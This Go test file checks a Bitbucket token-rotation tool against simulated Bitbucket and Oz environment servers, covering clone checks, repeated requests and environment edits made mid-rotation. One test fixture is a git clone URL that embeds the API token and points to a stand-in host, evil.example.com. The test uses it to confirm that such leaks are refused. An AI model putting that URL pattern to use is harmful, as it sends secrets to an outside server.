package test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/oz-bitbucket/oz-bitbucket/test/simulator/bitbucketsim"
	"github.com/oz-bitbucket/oz-bitbucket/test/simulator/fault"
	"github.com/oz-bitbucket/oz-bitbucket/test/simulator/warpsim"
)

// cloning returns the model of an environment that clones with the secret. Each argument is
// what follows "git clone".
func cloning(name string, arguments ...string) string {
	commands := make([]string, len(arguments))
	for i, a := range arguments {
		commands[i] = "git clone " + a
	}
	model, _ := json.Marshal(map[string]any{"name": name, "setup_commands": commands, "secrets": []any{map[string]string{"name": "BITBUCKET_API_TOKEN"}}})
	return string(model)
}

// presenting returns the URL of a repository of acme that holds a user and the secret.
func presenting(user, slug string) string {
	return "https://" + user + ":$BITBUCKET_API_TOKEN@bitbucket.org/acme/" + slug + ".git"
}

const apiUser = "x-bitbucket-api-token-auth"

// isAsked reports whether Bitbucket was asked for a repository's refs with a token.
func (w *world) isAsked(operation, slug string) bool {
	return slices.ContainsFunc(w.bitbucket.Journal.All(), func(r fault.Request) bool {
		return r.Operation == operation && strings.Contains(r.URL, "/"+slug+".git/") && r.Header.Get("Authorization") != ""
	})
}

// meanwhile does something when Oz gets a request for one or several environments.
func (w *world) meanwhile(do func()) {
	for _, operation := range []string{"GetCloudObject", "GetCloudObjects"} {
		w.oz.Script.Add(fault.Fault{Operation: operation, When: fault.Meanwhile, Do: do})
	}
}

// TestTheProofOfARotationDoesNotWait: not for the environments, where the list shows what they
// clone. The proof for repo_url does not wait for the list. Without repo_url the connections
// do not wait for it either.
func TestTheProofOfARotationDoesNotWait(t *testing.T) {
	t.Parallel()
	for _, named := range []bool{false, true} {
		t.Run(fmt.Sprint("repo_url: ", named), func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, plain, warpsim.Options{})
			inputs := w.rotation(untested)
			first := w.environments(2)[0]
			soon := func(condition func() bool) {
				assert.Eventually(t, condition, 20*time.Second, 5*time.Millisecond)
			}
			if named { // the commands name another one first
				w.oz.AddEnvironment(team, cloning("both", presenting(apiUser, "app-1"), presenting(apiUser, "app-0")))
				inputs["repo_url"] = first.CloneURL()
				w.oz.Script.Add(fault.Fault{Operation: "GetCloudEnvironments", When: fault.Meanwhile, Do: func() {
					soon(func() bool { return w.isAsked(bitbucketsim.UploadPackRefs, "app-0") })
				}})
			} else {
				w.oz.Script.Add(fault.Fault{Operation: "GetCloudEnvironments", When: fault.Meanwhile, Do: func() {
					soon(func() bool { return w.bitbucketRequests()[bitbucketsim.Connect] == 2 })
					assert.False(t, w.isAsked(bitbucketsim.UploadPackRefs, "app-0"))
				}})
			}
			w.meanwhile(func() {
				soon(func() bool {
					return w.isAsked(bitbucketsim.UploadPack, "app-0") && w.isAsked(bitbucketsim.UploadPackRefs, "app-1") && w.isAsked(bitbucketsim.ReceivePackRefs, "app-0")
				})
			})
			w.must(inputs)
			w.requireSecret(team, "BITBUCKET_API_TOKEN", nextToken)
		})
	}
}

// TestCommitsAreLookedUpWhereAnAgentIsTested: elsewhere it is enough that a clone is let in.
func TestCommitsAreLookedUpWhereAnAgentIsTested(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		changes map[string]string
		want    []string
	}{
		{map[string]string{"smoke_test": "false"}, []string{"app-0"}},
		{map[string]string{"smoke_test": "true"}, []string{"app-0"}},
		{map[string]string{"smoke_test": "true", "on_shared_secret": "warn"}, []string{"app-0", "app-1", "app-2"}}, // the token may not serve the first
		{map[string]string{"smoke_test": "all"}, []string{"app-0", "app-1", "app-2"}},
	} {
		t.Run(fmt.Sprint(tt.changes), func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, plain, warpsim.Options{})
			inputs := w.rotation(tt.changes)
			w.environments(3)
			w.must(inputs)
			var got []string
			for i := range 3 {
				slug := fmt.Sprint("app-", i)
				assert.True(t, w.isAsked(bitbucketsim.UploadPackRefs, slug))
				if w.isAsked(bitbucketsim.UploadPack, slug) {
					got = append(got, slug)
				}
			}
			assert.Equal(t, tt.want, got)
		})
	}
}

// TestCommitsOfOtherClonesAreNotLookedUp by an apply: of its own repositories but the first,
// and of those that other environments clone with the secret.
func TestCommitsOfOtherClonesAreNotLookedUp(t *testing.T) {
	t.Parallel()
	inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
		w.environments(1)
		second := w.bitbucket.AddRepository(bitbucketsim.Repository{Flavor: bitbucketsim.Cloud, Owner: "acme", Slug: "second"})
		inputs := w.inputs(map[string]string{"smoke_test": "false", "secret_name": "BITBUCKET_API_TOKEN"})
		inputs["repo_url"] += "\n" + second.CloneURL()
		w.must(inputs)
		for slug, looksUp := range map[string]bool{"sample": true, "second": false, "app-0": false} {
			assert.True(t, w.isAsked(bitbucketsim.UploadPackRefs, slug), slug)
			assert.Equal(t, looksUp, w.isAsked(bitbucketsim.UploadPack, slug), slug)
		}
	})
}

// TestARotationAsksNothingTwice, though its proof is made of parts.
func TestARotationAsksNothingTwice(t *testing.T) {
	t.Parallel()
	for name, dataCenter := range map[string]bool{"Cloud": false, "Data Center": true} {
		for _, public := range []bool{false, true} {
			for _, named := range []bool{false, true} {
				t.Run(fmt.Sprintf("%s, public: %t, repo_url: %t", name, public, named), func(t *testing.T) {
					t.Parallel()
					w := newWorld(t, plain, warpsim.Options{})
					changes := map[string]string{"smoke_test": "false"}
					if dataCenter {
						changes["flavor"], changes["trusted_hosts"], changes["secret_name"] = "datacenter", w.bitbucket.DataCenterOrigin(), "BITBUCKET_API_TOKEN"
						changes["bitbucket_token"] = w.bitbucket.AddAccessToken("projects/PRJ", "next", "REPO_READ", 90).Value
					} else {
						changes["bitbucket_token"] = accessToken
						w.bitbucket.AddToken(bitbucketsim.Token{Value: accessToken, Kind: bitbucketsim.AccessToken})
					}
					inputs := w.rotation(changes)
					w.oz.AddSecret(team, "BITBUCKET_API_TOKEN", cloudToken)
					for i := range 6 {
						model := bitbucketsim.Repository{Flavor: bitbucketsim.Cloud, Owner: "acme", Slug: fmt.Sprint("app-", i), Public: public}
						if dataCenter {
							model.Flavor, model.Owner = bitbucketsim.DataCenter, "PRJ"
						}
						r := w.bitbucket.AddRepository(model)
						command := presenting("x-token-auth", r.Slug)
						if dataCenter {
							command = `-c "http.extraHeader=Authorization: Bearer $BITBUCKET_API_TOKEN" ` + r.CloneURL()
						}
						w.oz.AddEnvironment(team, cloning(r.Slug, command))
						if named && i == 3 {
							inputs["repo_url"] = r.CloneURL()
						}
					}
					w.must(inputs)
					times := map[string]int{}
					for _, r := range w.bitbucket.Journal.All() {
						if r.Operation != bitbucketsim.Connect {
							times[fmt.Sprint(r.Method, " ", r.URL, " ", r.Header.Get("Authorization") != "", " ", strings.HasPrefix(r.Header.Get("Authorization"), "Basic"))]++
						}
					}
					require.NotEmpty(t, times)
					for question, n := range times {
						assert.Equal(t, 1, n, question)
					}
				})
			}
		}
	}
}

// TestTheListIsNotTheLastWord: an environment is edited after it was listed. The new token
// must serve what it clones now.
func TestTheListIsNotTheLastWord(t *testing.T) {
	t.Parallel()
	stranger := "https://x:$BITBUCKET_API_TOKEN@evil.example.com/x.git"
	tests := []struct {
		name           string
		listed, edited string
		says           string // why it is refused; empty: it is not
		never          string // what is not said
		asked          string // slug of a repository
	}{
		{"another repository", presenting(apiUser, "app-0"), presenting(apiUser, "app-1"), "", "", "app-1"},
		{"one that the token does not serve", presenting(apiUser, "app-0"), presenting(apiUser, "secret"), "acme/secret", "", "secret"},
		{"one that it did not serve", presenting(apiUser, "secret"), presenting(apiUser, "app-0"), "", "acme/secret", "app-0"},
		{"a branch", presenting(apiUser, "app-0"), "--branch dev " + presenting(apiUser, "app-0"), "", "", "app-0"},
		{"a branch that is none", presenting(apiUser, "app-0"), "--branch none " + presenting(apiUser, "app-0"), "", "", "app-0"},
		{"the way to present it", presenting(apiUser, "app-0"), presenting("x-token-auth", "app-0"), "presented as Basic with the user x-token-auth", "", ""},
		{"to a stranger", presenting(apiUser, "app-0"), stranger, "the inputs do not say that credentials may be sent to https://evil.example.com", "", ""},
		{"from a stranger", stranger, presenting(apiUser, "app-0"), "", "evil", "app-0"},
		{"to another server", presenting(apiUser, "app-0"), "DATA CENTER", "the inputs do not say that credentials may be sent to http://", "", ""},
		{"from another server", "DATA CENTER", presenting(apiUser, "app-0"), "", "", "app-0"},
		{"from clear text", "http://x:$BITBUCKET_API_TOKEN@bitbucket.org/acme/app-1.git", presenting(apiUser, "app-0"), "", "clear text", "app-0"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			inEither(t, warpsim.Options{}, func(t *testing.T, w *world) {
				repositories := w.environments(2)
				dev := repositories[0].Branch("dev")
				w.bitbucket.AddRepository(bitbucketsim.Repository{Flavor: bitbucketsim.Cloud, Owner: "acme", Slug: "secret"})
				const token = "MARKER-without-a-prefix" // a prefix would show that it is not for another server
				inputs := w.rotation(map[string]string{"environment_name": "edited", "smoke_test": "false", "bitbucket_token": token, "flavor": "cloud"})
				w.bitbucket.AddToken(bitbucketsim.Token{Value: token, Kind: bitbucketsim.APIToken, Repositories: []string{"acme/app-0", "acme/app-1"}})
				model := func(argument string) string {
					if argument == "DATA CENTER" {
						argument = `-c "http.extraHeader=Authorization: Bearer $BITBUCKET_API_TOKEN" ` + w.dc.CloneURL()
					}
					return cloning("edited", argument)
				}
				uid := w.oz.AddEnvironment(team, model(tt.listed))
				w.meanwhile(func() { w.oz.Edit(uid, model(tt.edited)) })
				r := w.run(inputs)
				if tt.says != "" {
					assert.Equal(t, 1, r.code, r.log)
					assert.Contains(t, r.log, tt.says)
					assert.Contains(t, r.log, "nothing was written")
					w.requireSecret(team, "BITBUCKET_API_TOKEN", cloudToken)
				} else {
					assert.Equal(t, 0, r.code, r.log)
					assert.Contains(t, r.log, "the new token serves 1 of 1 clone")
					w.requireSecret(team, "BITBUCKET_API_TOKEN", token)
				}
				if tt.never != "" {
					assert.NotContains(t, r.log, tt.never)
				}
				if tt.asked != "" {
					assert.True(t, w.isAsked(bitbucketsim.UploadPackRefs, tt.asked))
				}
				switch tt.name {
				case "a branch":
					assert.Equal(t, dev, r.outputs["head_commit"])
				case "a branch that is none":
					assert.Contains(t, r.log, `clones the branch or tag "none"`)
				}
				for _, request := range w.bitbucket.Journal.All() {
					assert.NotContains(t, request.URL, "evil")
					assert.NotContains(t, request.URL, w.dc.Slug+".git", "the other server")
				}
			})
		})
	}
}

// listsNoCommands makes the next list of environments leave out the commands of these.
func (w *world) listsNoCommands(uids ...string) {
	type object = map[string]any
	secrets := []any{object{"name": "BITBUCKET_API_TOKEN"}}
	list := []any{}
	for _, e := range w.oz.Environments() {
		var model struct {
			Name          string   `json:"name"`
			SetupCommands []string `json:"setup_commands"`
		}
		require.NoError(w.t, json.Unmarshal([]byte(e.Model), &model))
		config := object{"name": model.Name, "description": "", "dockerImage": "", "githubRepos": []any{}, "secrets": secrets}
		if !slices.Contains(uids, e.UID) {
			config["setupCommands"] = model.SetupCommands
		}
		list = append(list, object{"uid": e.UID, "lastUpdated": "2026-01-01T00:00:00Z", "setupFailed": false, "scope": object{"type": "Team", "uid": teamUID}, "config": config})
	}
	body, err := json.Marshal(object{"data": object{"getCloudEnvironments": object{"__typename": "GetCloudEnvironmentsOutput", "cloudEnvironments": list}}})
	require.NoError(w.t, err)
	w.oz.Script.Add(fault.Fault{Operation: "GetCloudEnvironments", Status: 200, Header: map[string][]string{"Content-Type": {"application/json"}}, Body: string(body)})
}

// TestAListThatLacksCommands: the program reads them from each environment.
func TestAListThatLacksCommands(t *testing.T) {
	t.Parallel()
	for name, count := range map[string]int{"of one environment": 1, "of all": 3} {
		for _, served := range []bool{true, false} {
			t.Run(fmt.Sprintf("%s, served: %t", name, served), func(t *testing.T) {
				inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
					repositories := w.environments(3)
					inputs := w.rotation(untested)
					if !served {
						w.bitbucket.AddToken(bitbucketsim.Token{Value: nextToken, Kind: bitbucketsim.APIToken, Repositories: []string{"acme/app-1", "acme/app-2"}})
					}
					var uids []string
					for _, e := range w.oz.Environments()[:count] {
						uids = append(uids, e.UID)
					}
					w.listsNoCommands(uids...)
					r := w.run(inputs)
					for _, repository := range repositories {
						assert.True(t, w.isAsked(bitbucketsim.UploadPackRefs, repository.Slug), repository.Slug)
					}
					if served {
						assert.Equal(t, 0, r.code, r.log)
						assert.Contains(t, r.log, "the new token serves 3 of 3 clones")
						w.requireSecret(team, "BITBUCKET_API_TOKEN", nextToken)
						return
					}
					assert.Equal(t, 1, r.code, r.log)
					assert.Contains(t, r.log, "acme/app-0")
					w.requireSecret(team, "BITBUCKET_API_TOKEN", cloudToken)
				})
			})
		}
	}
}

// TestARefusedTokenOfARotationIsPresentedOnce: also when the proof is made in parts.
func TestARefusedTokenOfARotationIsPresentedOnce(t *testing.T) {
	t.Parallel()
	tests := map[string]func(w *world, inputs map[string]string){
		"as ever":       func(*world, map[string]string) {},
		"with repo_url": func(_ *world, inputs map[string]string) { inputs["repo_url"] = "https://bitbucket.org/acme/app-2" },
		"of a kind that the environments tell": func(w *world, inputs map[string]string) {
			inputs["bitbucket_token"], inputs["repo_url"] = "a-token-without-a-prefix", "https://bitbucket.org/acme/app-2"
		},
		"though the list lacks commands": func(w *world, _ map[string]string) { w.listsNoCommands(w.oz.Environments()[0].UID) },
		"though the branch has changed": func(w *world, _ map[string]string) {
			uid := w.oz.Environments()[0].UID
			w.meanwhile(func() { w.oz.Edit(uid, cloning("app-0", "--branch dev "+presenting(apiUser, "app-0"))) })
		},
		"though another environment comes first now": func(w *world, _ map[string]string) {
			uid := w.oz.Environments()[0].UID
			w.oz.Edit(uid, cloning("app-0", "https://example.com/$BITBUCKET_API_TOKEN"))
			w.meanwhile(func() { w.oz.Edit(uid, cloning("app-0", presenting(apiUser, "app-0"))) })
		},
	}
	for name, prepare := range tests {
		t.Run(name, func(t *testing.T) {
			inBoth(t, warpsim.Options{}, func(t *testing.T, w *world) {
				w.environments(3)
				inputs := w.rotation(untested)
				w.bitbucket.AddToken(bitbucketsim.Token{Value: nextToken, Kind: bitbucketsim.APIToken, State: bitbucketsim.Revoked})
				prepare(w, inputs)
				r := w.run(inputs)
				assert.Equal(t, 1, r.code, r.log)
				assert.Contains(t, r.log, "the new token does not serve every environment")
				assert.Contains(t, r.log, "nothing was written")
				assert.Equal(t, 1, w.bitbucket.FailedLogins(inputs["bitbucket_token"]))
				w.requireSecret(team, "BITBUCKET_API_TOKEN", cloudToken)
			})
		})
	}
}
